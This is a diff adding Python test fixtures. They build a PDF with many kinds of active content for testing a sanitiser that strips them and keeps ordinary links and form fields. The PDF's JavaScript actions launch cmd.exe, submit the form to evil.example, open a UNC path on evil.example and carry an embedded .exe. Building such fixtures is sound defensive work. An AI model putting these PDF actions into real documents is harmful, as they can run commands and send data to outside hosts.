@@ -39,6 +39,140 @@ def pdf_with_javascript() -> bytes:
     return out.getvalue()
 
 
+ATTACHED_FILE = b"MZ attached payload that must not travel on"
+
+
+def pdf_with_active_content() -> bytes:
+    """One page carrying every kind of active content a stored copy was found with, next to what must stay:
+    an ordinary web link, a link to page 2 and a filled-in form field with its appearance."""
+    document = pikepdf.open(io.BytesIO(pdf(pages=2)))
+    page = document.pages[0]
+    Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
+
+    def javascript(code: str) -> pikepdf.Dictionary:
+        return Dictionary(S=Name.JavaScript, JS=pikepdf.String(code))
+
+    def annotation(subtype: str, rect: list[int], **entries: object) -> pikepdf.Object:
+        return document.make_indirect(
+            Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array(rect), **entries)
+        )
+
+    embedded = document.make_stream(ATTACHED_FILE)
+    embedded.Type = Name.EmbeddedFile
+    filespec = document.make_indirect(
+        Dictionary(Type=Name.Filespec, F=pikepdf.String("vedlegg.exe"), EF=Dictionary(F=embedded))
+    )
+    appearance = document.make_stream(b"/Tx BMC BT /F1 12 Tf 2 6 Td (Kari Nordmann) Tj ET EMC")
+    appearance.Type, appearance.Subtype = Name.XObject, Name.Form
+    appearance.BBox = Array([0, 0, 200, 20])
+    appearance.Resources = page.Resources
+    field = annotation(
+        "/Widget",
+        [72, 500, 272, 520],
+        FT=Name.Tx,
+        T=pikepdf.String("navn"),
+        V=pikepdf.String("Kari Nordmann"),
+        AP=Dictionary(N=appearance),
+        AA=Dictionary(K=javascript("event.value = 'x'")),
+        P=page.obj,
+    )
+    button = annotation(
+        "/Widget",
+        [72, 450, 172, 470],
+        FT=Name.Btn,
+        Ff=65536,
+        T=pikepdf.String("send"),
+        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=pikepdf.String("https://evil.example/"))),
+        P=page.obj,
+    )
+    web_link = annotation(
+        "/Link",
+        [72, 400, 272, 420],
+        # An ordinary link whose follow-up action runs code: the link stays, the follow-up goes.
+        A=Dictionary(
+            S=Name.URI, URI=pikepdf.String("https://www.nav.no/sosialhjelp"), Next=javascript("app.alert(1)")
+        ),
+    )
+    attachment = annotation("/FileAttachment", [300, 700, 320, 720], FS=filespec, Name=Name.Paperclip)
+    # A kept annotation that still points at the attachment: removing the attachment from the page alone
+    # would leave its file reachable, and written.
+    popup = annotation("/Popup", [320, 700, 420, 760], Parent=attachment)
+    page_link = annotation(
+        "/Link", [72, 370, 272, 390], A=Dictionary(S=Name.GoTo, D=Array([document.pages[1].obj, Name.Fit]))
+    )
+    page.Annots = document.make_indirect(
+        Array(
+            [
+                web_link,
+                page_link,
+                annotation(
+                    "/Link", [72, 340, 272, 360], A=javascript("app.launchURL('https://evil.example')")
+                ),
+                annotation(
+                    "/Link",
+                    [72, 310, 272, 330],
+                    A=Dictionary(
+                        S=Name.Launch,
+                        F=pikepdf.String("cmd.exe"),
+                        Win=Dictionary(F=pikepdf.String("cmd.exe")),
+                    ),
+                ),
+                annotation(
+                    "/Link",
+                    [72, 280, 272, 300],
+                    A=Dictionary(S=Name.URI, URI=pikepdf.String("javascript:app.alert(1)")),
+                ),
+                annotation(
+                    "/Link",
+                    [72, 250, 272, 270],
+                    A=Dictionary(
+                        S=Name.GoToR,
+                        F=pikepdf.String("\\\\evil.example\\share\\x.pdf"),
+                        D=Array([0, Name.Fit]),
+                    ),
+                ),
+                attachment,
+                popup,
+                annotation("/RichMedia", [300, 600, 400, 680]),
+                annotation(
+                    "/Screen",
+                    [300, 500, 400, 580],
+                    A=Dictionary(S=Name.Rendition, OP=0, JS=pikepdf.String("x")),
+                ),
+                annotation("/Sound", [300, 450, 320, 470]),
+                annotation("/Movie", [300, 400, 320, 420]),
+                field,
+                button,
+            ]
+        )
+    )
+    page.AA = Dictionary(
+        O=javascript("app.alert('side åpnet')"), C=Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))
+    )
+    document.Root.AcroForm = Dictionary(
+        Fields=Array([field, button]),
+        XFA=document.make_stream(
+            b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script></xdp:xdp>"
+        ),
+        DA=pikepdf.String("/Helv 0 Tf 0 g"),
+    )
+    document.Root.NeedsRendering = True
+    document.Root.OpenAction = javascript("app.alert('åpnet')")
+    document.Root.AA = Dictionary(WC=javascript("app.alert('lukket')"))
+    document.Root.Names = Dictionary(
+        JavaScript=Dictionary(Names=Array([pikepdf.String("init"), javascript("app.alert(2)")])),
+        EmbeddedFiles=Dictionary(Names=Array([pikepdf.String("vedlegg.exe"), filespec])),
+    )
+    outline = document.make_indirect(Dictionary(Title=pikepdf.String("Start"), A=javascript("app.alert(3)")))
+    document.Root.Outlines = document.make_indirect(
+        Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1)
+    )
+    outline.Parent = document.Root.Outlines
+    out = io.BytesIO()
+    document.save(out, compress_streams=False)
+    return out.getvalue()
+
+
 def encrypted_pdf() -> bytes:
     document = pikepdf.open(io.BytesIO(pdf(pages=1)))
     out = io.BytesIO()
@@ -112,6 +246,14 @@ def png_bomb() -> bytes:
     image = Image.new("1", (20_000, 20_000), 0)
     out = io.BytesIO()
     image.save(out, format="PNG", optimize=True)
+    return out.getvalue()
+
+
+def png_of(width: int, height: int, mode: str = "RGB") -> bytes:
+    """A plain PNG of the given size; it compresses to almost nothing however many pixels it has."""
+    image = Image.new(mode, (width, height), "white")
+    out = io.BytesIO()
+    image.save(out, format="PNG", optimize=False, compress_level=9)
     return out.getvalue()
 
 
